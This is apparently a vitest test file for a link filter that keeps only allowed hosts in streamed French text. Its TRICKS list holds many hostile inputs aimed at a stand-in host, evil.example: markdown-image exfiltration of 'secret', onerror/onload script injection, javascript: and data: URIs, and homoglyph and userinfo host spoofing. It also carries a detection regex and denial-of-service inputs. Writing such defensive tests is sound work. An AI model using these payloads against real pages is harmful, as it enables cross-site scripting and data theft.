import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createLinkFilter } from './links.ts'

const ALLOWED = {
  hosts: ['voyages.example', 'www.lumiere.fr'],
  texts: ['Voir https://docs.autre.org/bagages?p=2. Écrivez à aide@autre.org', 'https://autre.org/cgv', 'eloise@example.fr'],
}
const filtered = (...pieces: readonly string[]): string => {
  const filter = createLinkFilter(ALLOWED)
  return pieces.map((piece) => filter.push(piece)).join('') + filter.end()
}

describe('links that may stay', () => {
  it.each([
    'Voir https://voyages.example/bagages?id=3#haut.',
    'Voir https://compte.voyages.example/',
    'Voir www.lumiere.fr/aide, merci',
    'Détails : https://docs.autre.org/bagages?p=2.',
    'Nos conditions : https://autre.org/cgv !',
    'Écrivez à aide@autre.org ou eloise@example.fr.',
    'Il est 12:30, soit 5.50 € de plus. Voir l’art. 12.3.4 ; note:ceci, C++ et <3 ans, a < b > c',
    'Réf. [3] et [note] : 20 kg (1) — 100 % ok.Merci',
    'Familles 👨‍👩‍👧 bienvenues',
  ])('%s', (text) => {
    expect(filtered(text)).toBe(text)
    expect(filtered(...text), 'sign by sign').toBe(text)
  })
  it('are said without markup', () => {
    expect(filtered('Voir [nos bagages](https://voyages.example/b "titre").')).toBe('Voir nos bagages (https://voyages.example/b).')
    expect(filtered('<a href="https://evil.example/x">voir</a> <https://voyages.example/b>')).toBe('voir https://voyages.example/b')
  })
})

const TRICKS = [
  'https://evil.example/?d=secret',
  'HTTPS://EVIL.EXAMPLE/x',
  '[ici](https://evil.example/?d=secret)',
  '[ici](<https://evil.example/?d=secret> "t")',
  '[https://voyages.example](https://evil.example)',
  '![](https://evil.example/p.png?d=secret)',
  '![logo [x]](https://voyages.example/p.png?d=secret)',
  '![logo][1]\n[1]: https://evil.example/p.png',
  '[ici][ref]\n\n[ref]: //evil.example/x',
  '<https://evil.example/x>',
  '<evil.example>',
  '<a href="https://evil.example">ici</a>',
  '<a href=https://evil.example>ici</a>',
  '<img src=x onerror="fetch(`https://evil.example/`)">',
  '<script>location="https://evil.example"</script>',
  '<!-- --><svg/onload=location="//evil.example">',
  'www.evil.example/x',
  'evil.example',
  'voir:evil.example/x',
  'ev\u200bil.exam\u00adple/x',
  'evil<b></b>.example/x',
  'evil。example/x',
  'ｈｔｔｐｓ://evil.example',
  'xn--vil-9ma.example/x',
  'https://еvil.example/x',
  'https://voyages.example@evil.example/x',
  'https://voyages.example%2f@evil.example/x',
  'https://voyages.example\\@evil.example/x',
  'https://evil.example\\.voyages.example/x',
  'https://voyages.example.evil.example/x',
  'https://evilvoyages.example/x',
  'javascript:fetch("//evil.example")',
  'JaVaScRiPt:alert(1)',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'data:text/html,evil',
  'vbscript:evil',
  'file:///etc/evil',
  'mailto:a@evil.example?body=secret',
  'a@evil.example',
  '//evil.example/x',
  'http:evil.example',
  'https:/evil.example',
  '192.0.2.7/evil',
  'http://3221225991/evil',
  'ftp://evil.example/x',
  '[a](x)[b](https://evil.example)',
  '[a]([b](https://evil.example))',
  '<<a>a href="https://evil.example">x',
  'https://docs.autre.org/bagages?p=2&evil=1',
]
const HARM = /evil|alert|base64|onerror|onload|secret|etc|<a|<img|<script|!\[/iu

describe('links that nobody allowed', () => {
  it.each(TRICKS)('%s', (trick) => {
    const text = `Voici ${trick} merci`
    expect(filtered(text)).not.toMatch(HARM)
    const filter = createLinkFilter(ALLOWED)
    let shown = ''
    for (const sign of text) {
      shown += filter.push(sign)
      expect(shown, 'while it is written').not.toMatch(HARM)
    }
    expect(shown + filter.end()).not.toMatch(HARM)
  })

  it('leave their words and their full stop', () => {
    expect(filtered('Voir [nos prix](https://evil.example/x). Sinon https://evil.example/y, merci.')).toBe('Voir nos prix. Sinon , merci.')
  })

  it('in any mixture and any pieces', () => {
    const part = fc.oneof(
      fc.constantFrom(...TRICKS),
      fc.constantFrom(' ', '\n', '[', ']', '(', ')', '<', '>', '!', 'Oui', 'a.b', '👍', '\u200b'),
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 8 }), fc.integer({ min: 1, max: 9 }), (parts, size) => {
        const text = parts.join(' ')
        const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'gu')) ?? []
        expect(filtered(...pieces)).not.toMatch(/evil\S*\.(?:example|voy)|javascript:|data:text|<script|<img|<a |!\[[^\]]*\]\(/iu)
      }),
      { numRuns: 1_000 },
    )
  })
})

it('holds back no more than a link may be, and a hostile text costs no time', () => {
  const filter = createLinkFilter(ALLOWED)
  expect(filter.push('Bonjour, voici [')).toBe('Bonjour, voici')
  expect(filter.push(`${'mot '.repeat(800)}`).length).toBeGreaterThan(500)
  for (const hostile of [
    '['.repeat(20_000),
    '<'.repeat(20_000),
    '![['.repeat(7_000),
    'a.'.repeat(10_000),
    'http://'.repeat(3_000),
    '[a]('.repeat(5_000),
  ]) {
    const start = performance.now()
    filtered(hostile)
    expect(performance.now() - start, hostile.slice(0, 4)).toBeLessThan(1_000)
  }
})
